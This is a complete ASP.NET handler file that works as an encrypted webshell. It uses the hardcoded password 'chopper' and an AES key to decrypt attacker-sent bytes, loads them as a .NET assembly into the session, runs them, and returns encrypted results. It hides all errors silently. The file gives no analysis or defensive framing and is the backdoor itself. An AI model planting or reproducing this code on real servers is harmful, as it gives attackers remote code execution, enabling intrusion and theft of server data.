<%@ WebHandler Language="C#" Class="Handler" %>
using System;
using System.Web;
using System.Web.SessionState;
using System.Reflection;
using System.Security.Cryptography;
using System.Text;

public class Handler : IHttpHandler, IRequiresSessionState
{
    public void ProcessRequest(HttpContext ctx)
    {
        try
        {
            string key = "d86ad0aad235f461";
            string pass = "chopper";
            string md5 = BitConverter.ToString(new MD5CryptoServiceProvider().ComputeHash(Encoding.Default.GetBytes(pass + key))).Replace("-", "");
            byte[] kb = Encoding.Default.GetBytes(key);
            byte[] data = Convert.FromBase64String(ctx.Request[pass]);
            data = new RijndaelManaged().CreateDecryptor(kb, kb).TransformFinalBlock(data, 0, data.Length);
            if (ctx.Session["payload"] == null)
            {
                ctx.Session["payload"] = Assembly.Load(data);
            }
            else
            {
                System.IO.MemoryStream ms = new System.IO.MemoryStream();
                object o = ((Assembly)ctx.Session["payload"]).CreateInstance("LY");
                o.Equals(ctx);
                o.Equals(ms);
                o.Equals(data);
                o.ToString();
                byte[] r = ms.ToArray();
                ctx.Response.Write(md5.Substring(0, 16));
                ctx.Response.Write(Convert.ToBase64String(new RijndaelManaged().CreateEncryptor(kb, kb).TransformFinalBlock(r, 0, r.Length)));
                ctx.Response.Write(md5.Substring(16));
            }
        }
        catch (Exception)
        {
        }
    }

    public bool IsReusable
    {
        get { return false; }
    }
}
